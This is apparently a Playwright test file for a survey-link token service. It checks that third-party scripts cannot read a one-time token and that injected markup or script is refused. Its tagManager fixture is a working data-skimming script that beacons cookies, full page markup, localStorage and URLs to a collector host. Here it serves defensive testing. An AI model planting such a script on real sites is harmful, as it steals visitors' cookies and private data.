import type { Page } from '@playwright/test';
import { startDemo } from '../../demo/demo.ts';
import { expect, test } from './support/fixtures.ts';
import { expectState } from './support/seller.ts';
import { expectSpentOnce } from './support/service.ts';
import { expectWithout } from './support/verdict.ts';

/**
 * Creates a script that sends to a host of its own what a tag manager, an error reporter and a session recorder take from a page.
 * The address of a report is among the resources of its page, as that of any request is, and left out here: docs/concepts/security.md says so.
 */
const tagManager = (collector: string) => `<script>
  const seen = () => ({
    href: location.href, url: document.URL, base: document.baseURI, referrer: document.referrer,
    history: JSON.stringify(history.state), entries: (window.navigation?.entries() ?? []).map(({ url }) => url),
    markup: document.documentElement.outerHTML, cookie: document.cookie, name: window.name,
    links: [...document.links].map(({ href }) => href), forms: [...document.forms].map(({ action }) => action),
    resources: performance.getEntriesByType('resource').map(({ name }) => name).filter((name) => !name.includes('/api/v3/')),
    local: JSON.stringify({ ...localStorage }),
  });
  const send = (when) => navigator.sendBeacon('${collector}', JSON.stringify({ when, ...seen() }));
  send('at once');
  addEventListener('load', () => send('loaded'));
  addEventListener('pagehide', () => send('leaving'));
  for (const type of ['click', 'submit']) document.addEventListener(type, () => setTimeout(send, 0, type));
  window.finished = () => send('finished');
</script>`;

/** Everything that reached a host, headers included. */
const textOf = (requests: readonly { search: string; headers: Headers; body: string }[]) =>
  requests.map(({ search, headers, body }) => [search, ...headers.values(), body].join('\n'));

const finished = (page: Page) =>
  page.evaluate(() => (window as unknown as { finished: () => void }).finished());

test('a tag manager after the tag never sees the token, on any page of a survey', async ({
  page,
  service,
  buyer,
  otherBuyer: collector,
}) => {
  collector.handle('/collect', () => new Response(null, { status: 204 }));
  const after = tagManager(collector.url('/collect'));
  const image = `<img src="${collector.url('/collect')}" alt="">`;
  buyer.page('/landing', { after, body: `${image}<a href="/second#part">Next</a>` });
  buyer.page('/second', {
    after,
    body: `${image}<form action="/finish"><button>Next</button></form>`,
  });
  buyer.page('/finish', { after, body: '<endlink-finish outcome="complete"></endlink-finish>' });
  const console: string[] = [];
  page.on('console', (message) => console.push(message.text()));

  const endlink = await service.issue(buyer.url('/landing'));
  await page.goto(endlink.url);
  await page.getByRole('link', { name: 'Next' }).click();
  await page.getByRole('button', { name: 'Next' }).click();
  await expectState(page, 'confirmed');
  await finished(page);
  await expect
    .poll(() => collector.requests.filter(({ body }) => body.includes('"finished"')).length)
    .toBe(1);
  await expectSpentOnce(service, endlink, 'complete');

  const collected = textOf(collector.requests);
  expect(collected.length).toBeGreaterThan(8);
  expect(collected.join()).toContain(buyer.url('/landing'));
  expectWithout(endlink.token, [...collected, ...console]);
  // The buyer's own host hears it with the landing, and with the request for the tag itself, which runs after it was made.
  const later = buyer.requests.filter(({ path }) => !['/landing', '/vaultlink.js'].includes(path));
  expect(later.map(({ path }) => path)).toContain('/second');
  expectWithout(endlink.token, textOf(later));
});

test('a tag manager before the tag does see it: the tag has to be first', async ({
  page,
  service,
  buyer,
  otherBuyer: collector,
}) => {
  collector.handle('/collect', () => new Response(null, { status: 204 }));
  buyer.page('/landing', { before: tagManager(collector.url('/collect')) });
  const endlink = await service.issue(buyer.url('/landing'));
  await page.goto(endlink.url);
  const sights = () =>
    collector.requests
      .map(({ body }) => JSON.parse(body || '{}') as { when?: string; href?: string })
      .filter(({ when }) => when);
  await expect
    .poll(() => sights().map(({ when }) => when))
    .toEqual(expect.arrayContaining(['at once', 'loaded']));
  for (const { when, href } of sights()) {
    if (when === 'at once') expect(href).toContain(endlink.token);
    else expectWithout(endlink.token, [`${href}`]);
  }
});

test('what a browser keeps of the landing itself is known: the entry of its navigation timing', async ({
  page,
  service,
  buyer,
}) => {
  buyer.page('/landing');
  const endlink = await service.issue(buyer.url('/landing'));
  await page.goto(endlink.url);
  await expectState(page, 'waiting');
  const names = await page.evaluate(() =>
    performance.getEntriesByType('navigation').map(({ name }) => name),
  );
  // No script can take it away (docs/concepts/security.md says so); should a browser stop keeping it, this test says that too.
  expect(names.join()).toContain(endlink.token);
});

// The stand-in for Playwright in WebKitGTK has no `exposeFunction()`.
test(
  'no script of a demo page can make markup or code from text, and none of ours tries',
  { tag: '@playwright' },
  async ({ page }) => {
    const demo = await startDemo({ port: 0 });
    await page.addInitScript(() => {
      const seen: string[] = [];
      Object.assign(window, { violations: seen });
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        seen.push(effectiveDirective),
      );
    });
    const pages = [
      ...['/', '/landing.html', '/thanks.html', '/not-a-match.html'].map(
        (path) => demo.sample + path,
      ),
      ...[`${demo.panel}/`, `${demo.panel}/profile`, `${demo.panel}/profile/popup`],
      ...[`${demo.club}/profile`, `${demo.panel}/vault/callback?code=a&state=b`],
    ];
    for (const url of pages) {
      await page.goto(url);
      // The elements are there before a page is looked at, where it has any.
      await page.waitForFunction(
        () => !document.querySelector('endlink-finish:not(:defined), vault-connect:not(:defined)'),
      );
      const violations = await page.evaluate(
        () => (window as unknown as { violations: string[] }).violations,
      );
      expect(violations, url).toEqual([]);
      const tried = await page.evaluate(() => {
        const results: string[] = [];
        const attempt = (run: () => void) => {
          try {
            run();
            results.push('done');
          } catch {
            results.push('refused');
          }
        };
        // Where a browser has no Trusted Types, there is nothing to refuse.
        if ('trustedTypes' in window) {
          attempt(() => (document.createElement('div').innerHTML = '<b></b>'));
          attempt(() => (document.createElement('script').src = 'data:,'));
        }
        const script = document.createElement('script');
        script.append('window.ran = true');
        document.head.append(script);
        return [...results.filter((result) => result !== 'refused'), 'ran' in window];
      });
      expect(tried, url).toEqual([false]);
    }
    await demo.close();
  },
);
